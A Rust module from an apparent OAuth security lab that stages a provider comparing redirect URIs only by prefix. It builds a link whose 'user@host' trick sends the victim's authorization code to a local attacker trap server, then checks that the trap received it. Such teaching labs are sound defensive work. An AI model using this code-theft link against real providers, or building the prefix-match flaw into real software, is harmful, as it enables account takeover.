//! Redirect URIs compared by their beginning.

use crate::{
    crew::{VICTIM, at_provider, link_to, shown, told},
    lab::{Lab, Played, Side, Variant},
    small_client::{self, Endpoints, Flaw as ClientFlaw, Setup},
    small_provider::{self, Flaw},
    sound,
    stage::{CLIENT, SECRET, Server, Stage, reserve},
    trap,
};
use valetkey_browser::Browser;

pub(super) const LAB: Lab = Lab {
    name: "redirect-uri",
    title: "A provider that compares only how the redirect URI begins",
    clause: "RFC 9700 2.1",
    attack: "Bob makes a link to the provider with the app's client id, and a redirect URI that begins like the registered one \
and leads to his own server: what stands before the @ is a user name, not a host. Alice, who is asked to use the app, follows it.",
    lesson: "The provider sends the code wherever the redirect URI says. Exact comparison, byte for byte, leaves nothing to \
interpret. PKCE would make the code useless to Bob had the app started the login; here he started it himself.",
    by_hand: |stage| {
        vec![
            format!("As Alice: open {} and sign in as alice.", link(stage)),
            format!(
                "Look at the address bar. The attacker's server is {}.",
                stage.attacker.clone().unwrap_or_default()
            ),
        ]
    },
    stage: |variant| Box::pin(stage(variant)),
    play: |stage| Box::pin(play(stage)),
};

async fn stage(variant: Variant) -> Stage {
    let (trap, _) = trap::set("127.0.0.1").await;
    let mut stage = match variant {
        Variant::With => sound::app(false).await,
        Variant::Without => {
            let (listener, origin) = reserve("localhost").await.unwrap_or_else(|e| panic!("{e}"));
            let provider =
                small_provider::start(Flaw::PrefixMatch, &format!("{origin}/callback")).await;
            let base = provider.server.origin.clone();
            let endpoints = Endpoints {
                issuer: base.clone(),
                authorization: format!("{base}/authorize"),
                token: format!("{base}/token"),
                userinfo: format!("{base}/userinfo"),
                client_id: CLIENT.into(),
                client_secret: Some(SECRET.into()),
            };
            let server = Server::on(listener, &origin, |origin| {
                small_client::router(Setup {
                    flaw: ClientFlaw::Sound,
                    origin: origin.to_owned(),
                    providers: vec![("careless".into(), endpoints)],
                })
            });
            Stage::with_small_provider(provider, server, CLIENT, small_client::COOKIE.into())
        }
    };
    stage.attacker = Some(trap.server.origin.clone());
    stage.caught = Some(trap.caught.clone());
    stage.keep.push(Box::new(trap));
    stage
}

fn link(stage: &Stage) -> String {
    let evil = stage.attacker.clone().unwrap_or_default();
    let evil_host = evil.trim_start_matches("http://");
    let redirect_uri = format!("{}@{evil_host}/callback", stage.app);
    link_to(
        &stage.authorization,
        &[
            ("response_type", "code"),
            ("client_id", &stage.client_id),
            ("redirect_uri", &redirect_uri),
            ("scope", "openid"),
            ("state", "bob"),
        ],
    )
}

async fn play(stage: &Stage) -> Played {
    let alice = Browser::new();
    let page = alice.open(&link(stage)).await.map_err(told)?;
    let seen = at_provider(&alice, page, VICTIM).await?;
    let caught = stage.caught.as_ref().and_then(|c| c.parameter("code"));
    Ok(Side {
        succeeded: caught.is_some(),
        evidence: match &caught {
            Some(code) => format!(
                "the attacker's server received Alice's code {}",
                shown(code)
            ),
            None => format!(
                "the attacker's server received nothing; the provider answered {} on its own page",
                seen.status
            ),
        },
        attacker: vec![
            "Bob sent Alice a link to the provider whose redirect URI begins like the app's."
                .into(),
        ],
        victim: vec![format!(
            "Alice saw “{}” (status {}).",
            seen.title(),
            seen.status
        )],
        code: None,
    })
}
